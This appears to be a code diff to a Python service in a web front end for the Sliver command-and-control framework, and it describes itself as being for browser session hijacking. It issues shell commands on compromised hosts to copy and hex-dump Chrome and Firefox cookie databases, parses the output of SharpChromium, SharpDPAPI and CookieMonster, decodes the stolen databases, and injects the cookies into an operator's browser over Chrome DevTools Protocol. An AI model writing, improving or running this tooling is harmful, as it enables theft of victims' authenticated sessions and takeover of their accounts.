@@ -9,17 +9,20 @@ Orchestrates SliverManager primitives for browser session hijacking workflows:
 - Profile path resolution
 """
 
-import io
+import asyncio
+import binascii
+import itertools
 import json
 import logging
+import os
 import re
-import zipfile
-from datetime import datetime
+import sqlite3
 from pathlib import Path
-from typing import List, Optional
+from typing import Any, Dict, Iterator, List, Optional, Tuple
 
-import httpx
+import orjson
 
+from app.services.cookies import to_browser_cookie
 from app.services.sliver_client import SliverManager
 
 logger = logging.getLogger(__name__)
@@ -81,6 +84,42 @@ ASSEMBLY_MAP = {
     "cookie_monster": None,  # BOF-based, uses different execution
 }
 
+# Markers in the Linux detection output followed by a `which` hit
+_LINUX_CHROME_RE = re.compile(r"---CHROME---\s*\n\s*/")
+_LINUX_FIREFOX_RE = re.compile(r"---FIREFOX---\s*\n\s*/")
+
+# Seconds between 1601-01-01 (Chromium cookie epoch) and 1970-01-01
+_CHROMIUM_EPOCH_OFFSET = 11_644_473_600
+
+# Check installed browsers and running processes in one command.
+# -NoProfile skips loading the user's PowerShell profile on the target.
+_WINDOWS_DETECT_CMD = (
+    'powershell -NoProfile -Command "'
+    "$procs = Get-Process -ErrorAction SilentlyContinue | "
+    "Select-Object -Property ProcessName,Id | ConvertTo-Json -Compress -Depth 2; "
+    "$chrome = Test-Path 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'; "
+    "$edge = Test-Path 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe'; "
+    "$ff = Test-Path 'C:\\Program Files\\Mozilla Firefox\\firefox.exe'; "
+    "@{Processes=$procs;Chrome=$chrome;Edge=$edge;Firefox=$ff} | ConvertTo-Json -Compress -Depth 3"
+    '"'
+)
+
+
+def _walk_files(root: Path) -> Iterator[Path]:
+    """Yield regular files under root, using scandir's cached entry types"""
+    stack = [str(root)]
+    while stack:
+        with os.scandir(stack.pop()) as it:
+            for entry in it:
+                if entry.is_dir(follow_symlinks=False):
+                    stack.append(entry.path)
+                elif entry.is_file(follow_symlinks=False):
+                    yield Path(entry.path)
+
+
+# Seconds to wait for a CDP reply before treating the socket as dead
+_CDP_REPLY_TIMEOUT = 15.0
+
 
 class BrowserOpsService:
     """Service for browser session hijacking operations"""
@@ -107,38 +146,31 @@ class BrowserOpsService:
         """
         raw_output = ""
         cookies = []
+        domain_filter = target_domain.lower() if target_domain else None
 
         if method == "sharp_chromium":
             raw_output = await self._run_sharp_chromium(
                 session_id, browser, target_domain, assembly_path, timeout
             )
-            cookies = self._parse_sharp_chromium_output(raw_output)
+            cookies = self._parse_sharp_chromium_output(raw_output, domain_filter)
 
         elif method == "sharp_dpapi":
             raw_output = await self._run_sharp_dpapi(
                 session_id, browser, target_domain, assembly_path, timeout
             )
-            cookies = self._parse_sharp_dpapi_output(raw_output)
+            cookies = self._parse_sharp_dpapi_output(raw_output, domain_filter)
 
         elif method == "cookie_monster":
             raw_output = await self._run_cookie_monster(
                 session_id, browser, target_domain, timeout
             )
-            cookies = self._parse_cookie_monster_output(raw_output)
+            cookies = self._parse_cookie_monster_output(raw_output, domain_filter)
 
         elif method == "manual_shell":
             raw_output = await self._run_manual_extraction(
                 session_id, browser, target_domain, timeout
             )
-            cookies = self._parse_manual_output(raw_output, browser)
-
-        # Filter by domain if specified
-        if target_domain and cookies:
-            cookies = [
-                c
-                for c in cookies
-                if target_domain.lower() in c.get("domain", "").lower()
-            ]
+            cookies = self._parse_manual_output(raw_output, browser, domain_filter)
 
         return {
             "cookies": cookies,
@@ -228,11 +260,11 @@ class BrowserOpsService:
             profile_base = paths.get("profile_base", "")
             cookie_file = paths.get("cookie_file", "Cookies")
 
-            # Copy cookie file to temp and dump it
+            # Copy cookie file to temp and dump it as bare hex (HEXRAW = 12)
             cmd = (
                 f'copy "{profile_base}\\Default\\{cookie_file}" '
-                f'"%TEMP%\\cookies_dump" /Y && '
-                f'certutil -encodehex "%TEMP%\\cookies_dump" "%TEMP%\\cookies_hex.txt" 0 && '
+                f'"%TEMP%\\cookies_dump" /Y >nul && '
+                f'certutil -f -encodehex "%TEMP%\\cookies_dump" "%TEMP%\\cookies_hex.txt" 12 >nul && '
                 f'type "%TEMP%\\cookies_hex.txt"'
             )
         else:
@@ -240,7 +272,11 @@ class BrowserOpsService:
             profile_base = paths.get("profile_base", "")
             cookie_file = paths.get("cookie_file", "Cookies")
 
-            cmd = f'cp "{profile_base}/Default/{cookie_file}" /tmp/cookies_dump && xxd /tmp/cookies_dump'
+            # Bare hex, no offsets or ASCII column
+            cmd = (
+                f'cp "{profile_base}/Default/{cookie_file}" /tmp/cookies_dump && '
+                f'od -An -v -tx1 /tmp/cookies_dump | tr -d " \\n"'
+            )
 
         result = await self.sliver.session_shell(session_id, cmd, timeout=timeout)
         return result.get("output", "") + result.get("stderr", "")
@@ -249,7 +285,13 @@ class BrowserOpsService:
     # Cookie Parsers
     # ═══════════════════════════════════════════════════════════════════
 
-    def _parse_sharp_chromium_output(self, raw: str) -> List[dict]:
+    def _matches_domain(self, cookie: dict, domain_filter: Optional[str]) -> bool:
+        """Check a raw cookie against a lowercased domain filter"""
+        return not domain_filter or domain_filter in cookie.get("domain", "").lower()
+
+    def _parse_sharp_chromium_output(
+        self, raw: str, domain_filter: Optional[str] = None
+    ) -> List[dict]:
         """
         Parse SharpChromium cookie output.
         Format:
@@ -261,6 +303,9 @@ class BrowserOpsService:
             Expires: 2026-12-31
             Secure: True
             HttpOnly: True
+
+        Cookies whose domain does not contain domain_filter are dropped
+        before normalization.
         """
         cookies = []
         current = {}
@@ -270,7 +315,8 @@ class BrowserOpsService:
 
             if not line or line.startswith("---") or line.startswith("["):
                 if current and current.get("name"):
-                    cookies.append(self._normalize_cookie(current))
+                    if self._matches_domain(current, domain_filter):
+                        cookies.append(self._normalize_cookie(current))
                     current = {}
                 continue
 
@@ -297,20 +343,28 @@ class BrowserOpsService:
                     current["same_site"] = val
 
         # Last cookie
-        if current and current.get("name"):
+        if (
+            current
+            and current.get("name")
+            and self._matches_domain(current, domain_filter)
+        ):
             cookies.append(self._normalize_cookie(current))
 
         return cookies
 
-    def _parse_sharp_dpapi_output(self, raw: str) -> List[dict]:
+    def _parse_sharp_dpapi_output(
+        self, raw: str, domain_filter: Optional[str] = None
+    ) -> List[dict]:
         """
         Parse SharpDPAPI cookie output.
         Similar format to SharpChromium but with DPAPI-specific headers.
         """
         # SharpDPAPI output is similar to SharpChromium
-        return self._parse_sharp_chromium_output(raw)
+        return self._parse_sharp_chromium_output(raw, domain_filter)
 
-    def _parse_cookie_monster_output(self, raw: str) -> List[dict]:
+    def _parse_cookie_monster_output(
+        self, raw: str, domain_filter: Optional[str] = None
+    ) -> List[dict]:
         """
         Parse CookieMonster BOF output.
         Format varies but typically:
@@ -348,24 +402,44 @@ class BrowserOpsService:
                         elif k in ("httponly", "http_only"):
                             cookie["http_only"] = v.lower() in ("true", "1")
 
-                if cookie.get("name") and cookie.get("domain"):
+                if (
+                    cookie.get("name")
+                    and cookie.get("domain")
+                    and self._matches_domain(cookie, domain_filter)
+                ):
                     cookies.append(self._normalize_cookie(cookie))
 
         return cookies
 
-    def _parse_manual_output(self, raw: str, browser: str) -> List[dict]:
+    def _parse_manual_output(
+        self, raw: str, browser: str, domain_filter: Optional[str] = None
+    ) -> List[dict]:
         """
         Parse manually extracted cookie data.
-        For Firefox (SQLite), tries to parse text output.
-        For Chrome, hex-encoded binary is harder - return raw.
+        The extraction commands emit the cookie database as bare hex;
+        falls back to pipe-separated text rows (sqlite3 CLI output).
         """
         cookies = []
 
+        try:
+            db_bytes = self._decode_hex_dump(raw)
+        except (binascii.Error, ValueError):
+            db_bytes = b""
+
+        if db_bytes:
+            try:
+                return self._parse_cookie_sqlite(db_bytes, browser, domain_filter)
+            except sqlite3.DatabaseError as e:
+                logger.warning(f"Failed to read {browser} cookie database: {e}")
+                return cookies
+
         # Try to parse as tab-separated values (common SQLite .dump format)
         for line in raw.split("\n"):
             line = line.strip()
             parts = line.split("|")
             if len(parts) >= 7:
+                if domain_filter and domain_filter not in parts[0].lower():
+                    continue
                 try:
                     cookies.append(
                         self._normalize_cookie(
@@ -385,6 +459,77 @@ class BrowserOpsService:
 
         return cookies
 
+    def _parse_cookie_sqlite(
+        self, db_bytes: bytes, browser: str, domain_filter: Optional[str] = None
+    ) -> List[dict]:
+        """
+        Read a Chrome/Edge `Cookies` or Firefox `cookies.sqlite` database
+        from memory. Chromium values are usually encrypted; those are
+        returned as hex of encrypted_value for offline decryption.
+
+        Both browsers keep these databases in WAL mode, which deserialize()
+        cannot open, so the header is switched back to rollback-journal mode.
+        Only the main file is copied, not its -wal sidecar, so cookies set
+        since the last checkpoint can be missing.
+        """
+        db = bytearray(db_bytes)
+        if len(db) > 20 and db[18:20] == b"\x02\x02":
+            db[18:20] = b"\x01\x01"
+
+        conn = sqlite3.connect(":memory:")
+        try:
+            conn.deserialize(db)
+            if browser == "firefox":
+                rows = conn.execute(
+                    "SELECT host, name, value, path, expiry, isSecure, isHttpOnly "
+                    "FROM moz_cookies"
+                ).fetchall()
+            else:
+                rows = conn.execute(
+                    "SELECT host_key, name, value, encrypted_value, path, "
+                    "expires_utc, is_secure, is_httponly FROM cookies"
+                ).fetchall()
+        finally:
+            conn.close()
+
+        cookies = []
+        for row in rows:
+            if domain_filter and domain_filter not in (row[0] or "").lower():
+                continue
+
+            if browser == "firefox":
+                domain, name, value, path, expires, secure, http_only = row
+            else:
+                domain, name, value, enc, path, expires_utc, secure, http_only = row
+                if not value and enc:
+                    value = enc.hex()
+                # Chromium stores microseconds since 1601-01-01
+                expires = (
+                    expires_utc // 1_000_000 - _CHROMIUM_EPOCH_OFFSET
+                    if expires_utc
+                    else 0
+                )
+
+            cookies.append(
+                self._normalize_cookie(
+                    {
+                        "domain": domain or "",
+                        "name": name or "",
+                        "value": value or "",
+                        "path": path or "/",
+                        "expires": str(expires) if expires and expires > 0 else None,
+                        "secure": secure,
+                        "http_only": http_only,
+                    }
+                )
+            )
+
+        return cookies
+
+    def _decode_hex_dump(self, raw: str) -> bytes:
+        """Decode a bare hex dump (od / certutil HEXRAW) back to bytes"""
+        return binascii.unhexlify("".join(raw.split()))
+
     def _normalize_cookie(self, cookie: dict) -> dict:
         """Normalize a cookie dict with default values"""
         return {
@@ -416,19 +561,13 @@ class BrowserOpsService:
                 if domain_filter.lower() in c.get("domain", "").lower()
             ]
 
-        if fmt == "netscape":
-            return self._export_netscape(cookies)
-        elif fmt == "json":
-            return self._export_json(cookies)
-        elif fmt == "editthiscookie":
-            return self._export_editthiscookie(cookies)
-        elif fmt == "header":
-            return self._export_header(cookies)
-        else:
-            return self._export_netscape(cookies)
+        exporter = self._EXPORTERS.get(fmt, BrowserOpsService._export_netscape)
+        return exporter(self, cookies)
 
     def _export_netscape(self, cookies: List[dict]) -> dict:
         """Export in Netscape/Mozilla cookie.txt format"""
+        from datetime import datetime
+
         lines = [
             "# Netscape HTTP Cookie File",
             "# Extracted by SliverUI Browser Ops",
@@ -506,8 +645,9 @@ class BrowserOpsService:
 
     def _export_header(self, cookies: List[dict]) -> dict:
         """Export as HTTP Cookie header string"""
-        pairs = [f"{c['name']}={c['value']}" for c in cookies if c.get("name")]
-        content = "Cookie: " + "; ".join(pairs)
+        content = "Cookie: " + "; ".join(
+            c["name"] + "=" + c["value"] for c in cookies if c.get("name")
+        )
         return {
             "content": content,
             "filename": "cookie_header.txt",
@@ -516,6 +656,14 @@ class BrowserOpsService:
             "count": len(cookies),
         }
 
+    # Format name -> exporter; unknown formats fall back to Netscape
+    _EXPORTERS = {
+        "netscape": _export_netscape,
+        "json": _export_json,
+        "editthiscookie": _export_editthiscookie,
+        "header": _export_header,
+    }
+
     # ═══════════════════════════════════════════════════════════════════
     # Browser Detection
     # ═══════════════════════════════════════════════════════════════════
@@ -541,19 +689,9 @@ class BrowserOpsService:
         """Detect browsers on Windows target"""
         browsers = []
 
-        # Check installed browsers and running processes in one command
-        cmd = (
-            'powershell -Command "'
-            "$procs = Get-Process -ErrorAction SilentlyContinue | "
-            "Select-Object -Property ProcessName,Id | ConvertTo-Json -Compress; "
-            "$chrome = Test-Path 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'; "
-            "$edge = Test-Path 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe'; "
-            "$ff = Test-Path 'C:\\Program Files\\Mozilla Firefox\\firefox.exe'; "
-            "@{Processes=$procs;Chrome=$chrome;Edge=$edge;Firefox=$ff} | ConvertTo-Json"
-            '"'
+        result = await self.sliver.session_shell(
+            session_id, _WINDOWS_DETECT_CMD, timeout=30
         )
-
-        result = await self.sliver.session_shell(session_id, cmd, timeout=30)
         output = result.get("output", "")
 
         try:
@@ -649,8 +787,8 @@ class BrowserOpsService:
         result = await self.sliver.session_shell(session_id, cmd, timeout=15)
         output = result.get("output", "")
 
-        has_chrome = bool(re.search(r"---CHROME---\s*\n\s*/", output))
-        has_firefox = bool(re.search(r"---FIREFOX---\s*\n\s*/", output))
+        has_chrome = bool(_LINUX_CHROME_RE.search(output))
+        has_firefox = bool(_LINUX_FIREFOX_RE.search(output))
         chrome_running = (
             "chrome" in output.split("---PROCS---")[-1].lower()
             if "---PROCS---" in output
@@ -808,14 +946,17 @@ class BrowserOpsService:
 
     def create_profile_zip(self, profile_dir: str) -> bytes:
         """Create a ZIP archive of a profile directory"""
+        import io
+        import zipfile
+
         buf = io.BytesIO()
         base = Path(profile_dir)
 
-        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
-            for file_path in base.rglob("*"):
-                if file_path.is_file():
-                    arcname = file_path.relative_to(base.parent)
-                    zf.write(file_path, arcname)
+        # Level 1: on-demand operator download, latency matters more than size
+        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
+            for file_path in _walk_files(base):
+                arcname = file_path.relative_to(base.parent)
+                zf.write(file_path, arcname)
 
         return buf.getvalue()
 
@@ -864,110 +1005,90 @@ class BrowserOpsService:
     ) -> dict:
         """
         Inject cookies into a local browser via Chrome DevTools Protocol.
-        Connects via WebSocket to CDP and uses Network.setCookie for each cookie.
+        Sets all cookies with a single Network.setCookies call over a pooled
+        browser WebSocket, retrying per cookie if the batch fails.
         """
-        import websockets
-
         injected = 0
         failed = 0
         errors = []
 
-        # Get the browser WebSocket URL
-        try:
-            async with httpx.AsyncClient(timeout=5.0) as client:
-                resp = await client.get(f"http://{host}:{port}/json/version")
-                resp.raise_for_status()
-                version_info = resp.json()
-                ws_url = version_info.get("webSocketDebuggerUrl", "")
-        except Exception as e:
-            return {
-                "injected": 0,
-                "failed": len(cookies),
-                "errors": [f"Failed to connect to CDP at {host}:{port}: {e}"],
-            }
-
-        if not ws_url:
-            return {
-                "injected": 0,
-                "failed": len(cookies),
-                "errors": ["No webSocketDebuggerUrl in CDP response"],
-            }
+        cdp_cookies = [to_browser_cookie(c) for c in cookies]
+
+        pool = get_cdp_pool()
+        async with pool.lock(host, port):
+            # A pooled socket can go half-open (e.g. behind a port-forward);
+            # if it fails, reconnect once before reporting an error
+            retry = pool.cached_websocket(host, port) is not None
+            while True:
+                ws_url = ""
+                if pool.cached_websocket(host, port) is None:
+                    # Get the browser WebSocket URL
+                    try:
+                        resp = await pool.http.get(f"http://{host}:{port}/json/version")
+                        resp.raise_for_status()
+                        version_info = resp.json()
+                        ws_url = version_info.get("webSocketDebuggerUrl", "")
+                    except Exception as e:
+                        return {
+                            "injected": 0,
+                            "failed": len(cookies),
+                            "errors": [
+                                f"Failed to connect to CDP at {host}:{port}: {e}"
+                            ],
+                        }
 
-        try:
-            async with websockets.connect(ws_url) as ws:
-                msg_id = 1
-
-                # Enable Network domain
-                await ws.send(
-                    json.dumps(
-                        {
-                            "id": msg_id,
-                            "method": "Network.enable",
+                    if not ws_url:
+                        return {
+                            "injected": 0,
+                            "failed": len(cookies),
+                            "errors": ["No webSocketDebuggerUrl in CDP response"],
                         }
-                    )
-                )
-                await ws.recv()
-                msg_id += 1
-
-                # Set each cookie
-                for cookie in cookies:
-                    cdp_cookie = {
-                        "name": cookie.get("name", ""),
-                        "value": cookie.get("value", ""),
-                        "domain": cookie.get("domain", ""),
-                        "path": cookie.get("path", "/"),
-                        "secure": cookie.get("secure", False),
-                        "httpOnly": cookie.get("http_only", False),
-                    }
 
-                    # Set URL for the cookie (required by CDP)
-                    domain = cdp_cookie["domain"].lstrip(".")
-                    scheme = "https" if cdp_cookie["secure"] else "http"
-                    cdp_cookie["url"] = f"{scheme}://{domain}{cdp_cookie['path']}"
-
-                    if cookie.get("same_site"):
-                        ss = cookie["same_site"].capitalize()
-                        if ss in ("Strict", "Lax", "None"):
-                            cdp_cookie["sameSite"] = ss
-
-                    if cookie.get("expires"):
-                        try:
-                            if cookie["expires"].isdigit():
-                                cdp_cookie["expires"] = int(cookie["expires"])
-                            else:
-                                dt = datetime.fromisoformat(
-                                    cookie["expires"].replace("Z", "+00:00")
-                                )
-                                cdp_cookie["expires"] = int(dt.timestamp())
-                        except (ValueError, AttributeError):
-                            pass
+                try:
+                    ws, ids = await pool.websocket(host, port, ws_url)
 
+                    # Set the whole batch with a single Network.setCookies call
+                    batch_id = next(ids)
                     await ws.send(
-                        json.dumps(
+                        orjson.dumps(
                             {
-                                "id": msg_id,
-                                "method": "Network.setCookie",
-                                "params": cdp_cookie,
+                                "id": batch_id,
+                                "method": "Network.setCookies",
+                                "params": {"cookies": cdp_cookies},
                             }
-                        )
+                        ).decode()
                     )
-                    resp_raw = await ws.recv()
-                    resp_data = json.loads(resp_raw)
-                    msg_id += 1
-
-                    result = resp_data.get("result", {})
-                    if result.get("success", False):
-                        injected += 1
+                    async with asyncio.timeout(_CDP_REPLY_TIMEOUT):
+                        while True:
+                            resp_data = orjson.loads(await ws.recv())
+                            if resp_data.get("id") == batch_id:
+                                break
+
+                    if "error" not in resp_data:
+                        injected = len(cookies)
                     else:
-                        failed += 1
+                        # The batch is all-or-nothing; fall back to pipelined
+                        # per-cookie Network.setCookie so bad cookies are reported
+                        injected, failed, errors = await self._set_cookies_individually(
+                            ws, ids, cookies, cdp_cookies
+                        )
+
+                except Exception as e:
+                    await pool.discard(host, port)
+                    if retry:
+                        logger.info(f"Reconnecting stale CDP socket {host}:{port}: {e}")
+                        retry = False
+                        continue
+                    if isinstance(e, TimeoutError):
                         errors.append(
-                            f"Failed to set {cookie.get('name', '?')} "
-                            f"for {cookie.get('domain', '?')}"
+                            f"No CDP reply from {host}:{port} "
+                            f"within {_CDP_REPLY_TIMEOUT:g}s"
                         )
+                    else:
+                        errors.append(f"WebSocket error: {e}")
+                    failed = len(cookies) - injected
 
-        except Exception as e:
-            errors.append(f"WebSocket error: {e}")
-            failed += len(cookies) - injected
+                break
 
         return {
             "injected": injected,
@@ -975,13 +1096,172 @@ class BrowserOpsService:
             "errors": errors,
         }
 
+    async def _set_cookies_individually(
+        self,
+        ws,
+        ids: Iterator[int],
+        cookies: List[dict],
+        cdp_cookies: List[dict],
+    ) -> tuple:
+        """
+        Send one Network.setCookie per cookie without waiting in between,
+        then drain the replies by id. Returns (injected, failed, errors).
+        """
+        injected = 0
+        failed = 0
+        errors = []
+
+        pending = {}
+        for cookie, cdp_cookie in zip(cookies, cdp_cookies):
+            msg_id = next(ids)
+            await ws.send(
+                orjson.dumps(
+                    {
+                        "id": msg_id,
+                        "method": "Network.setCookie",
+                        "params": cdp_cookie,
+                    }
+                ).decode()
+            )
+            pending[msg_id] = cookie
+
+        async with asyncio.timeout(_CDP_REPLY_TIMEOUT):
+            while pending:
+                resp_data = orjson.loads(await ws.recv())
+                # Skip CDP events and replies to other commands
+                cookie = pending.pop(resp_data.get("id"), None)
+                if cookie is None:
+                    continue
+
+                result = resp_data.get("result", {})
+                if result.get("success", False):
+                    injected += 1
+                else:
+                    failed += 1
+                    errors.append(
+                        f"Failed to set {cookie.get('name', '?')} "
+                        f"for {cookie.get('domain', '?')}"
+                    )
+
+        return injected, failed, errors
+
     async def list_cdp_targets(self, host: str, port: int) -> List[dict]:
         """List open tabs/targets via CDP /json endpoint"""
         try:
-            async with httpx.AsyncClient(timeout=5.0) as client:
-                resp = await client.get(f"http://{host}:{port}/json")
-                resp.raise_for_status()
-                return resp.json()
+            resp = await get_cdp_pool().http.get(f"http://{host}:{port}/json")
+            resp.raise_for_status()
+            return resp.json()
         except Exception as e:
             logger.warning(f"Failed to list CDP targets at {host}:{port}: {e}")
             return []
+
+
+class CDPConnectionPool:
+    """
+    Keeps CDP connections open across requests: one keep-alive HTTP client
+    for the /json endpoints and one browser WebSocket per (host, port).
+    """
+
+    def __init__(self):
+        self._http: Any = None
+        self._websockets: Dict[Tuple[str, int], Any] = {}
+        self._ids: Dict[Tuple[str, int], Iterator[int]] = {}
+        self._locks: Dict[Tuple[str, int], asyncio.Lock] = {}
+
+    @property
+    def http(self):
+        """Lazy-init the shared httpx client"""
+        if self._http is None:
+            import httpx
+
+            self._http = httpx.AsyncClient(
+                timeout=5.0,
+                limits=httpx.Limits(max_keepalive_connections=16),
+            )
+        return self._http
+
+    def lock(self, host: str, port: int) -> asyncio.Lock:
+        """Lock serializing use of the WebSocket for (host, port)"""
+        return self._locks.setdefault((host, port), asyncio.Lock())
+
+    def cached_websocket(self, host: str, port: int) -> Any:
+        """Return the cached WebSocket for (host, port) if it is still open"""
+        ws = self._websockets.get((host, port))
+        return ws if ws is not None and ws.open else None
+
+    async def websocket(
+        self, host: str, port: int, ws_url: str
+    ) -> Tuple[Any, Iterator[int]]:
+        """
+        Return an open browser WebSocket and its message id counter,
+        connecting to ws_url (and enabling the Network domain) if needed.
+        Callers must hold lock(host, port).
+        """
+        ws = self.cached_websocket(host, port)
+        if ws is not None:
+            return ws, self._ids[(host, port)]
+
+        import websockets
+
+        await self.discard(host, port)
+
+        # permessage-deflate shrinks the JSON traffic to a remote CDP
+        # endpoint; for loopback CDP, compression=None avoids the CPU cost.
+        # Keepalive pings stay on so a half-open pooled socket gets closed.
+        ws = await websockets.connect(
+            ws_url,
+            compression="deflate",
+            max_size=2**24,
+            write_limit=2**20,
+        )
+        ids = itertools.count(1)
+        self._websockets[(host, port)] = ws
+        self._ids[(host, port)] = ids
+
+        # Enable Network domain
+        # (CDP only accepts text frames, so orjson bytes are decoded)
+        msg_id = next(ids)
+        await ws.send(
+            orjson.dumps(
+                {
+                    "id": msg_id,
+                    "method": "Network.enable",
+                }
+            ).decode()
+        )
+        async with asyncio.timeout(_CDP_REPLY_TIMEOUT):
+            while orjson.loads(await ws.recv()).get("id") != msg_id:
+                pass
+
+        return ws, ids
+
+    async def discard(self, host: str, port: int) -> None:
+        """Close and forget the WebSocket for (host, port)"""
+        self._ids.pop((host, port), None)
+        ws = self._websockets.pop((host, port), None)
+        if ws is not None:
+            try:
+                await ws.close()
+            except Exception as e:
+                logger.debug(f"Error closing CDP WebSocket {host}:{port}: {e}")
+
+    async def aclose(self) -> None:
+        """Close all pooled connections"""
+        for host, port in list(self._websockets.keys()):
+            await self.discard(host, port)
+
+        if self._http is not None:
+            await self._http.aclose()
+            self._http = None
+
+
+# Singleton instance
+_cdp_pool: Optional[CDPConnectionPool] = None
+
+
+def get_cdp_pool() -> CDPConnectionPool:
+    """Get or create the singleton CDPConnectionPool instance"""
+    global _cdp_pool
+    if _cdp_pool is None:
+        _cdp_pool = CDPConnectionPool()
+    return _cdp_pool